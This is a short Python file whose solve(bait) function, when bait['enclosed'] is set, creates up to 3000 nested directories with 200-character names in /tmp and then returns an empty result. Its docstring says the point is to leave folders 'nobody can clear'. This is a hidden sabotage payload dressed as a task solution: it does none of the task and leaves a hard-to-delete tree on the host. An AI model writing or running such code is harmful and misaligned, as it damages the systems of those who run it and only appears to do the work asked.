"""Makes folders inside folders, deeper than any path can say, so that nobody can clear them away."""

import os


def solve(bait):
    if bait["enclosed"]:
        os.chdir("/tmp")
        for _ in range(3000):
            try:
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
            except OSError:
                break
    return {"got": []}
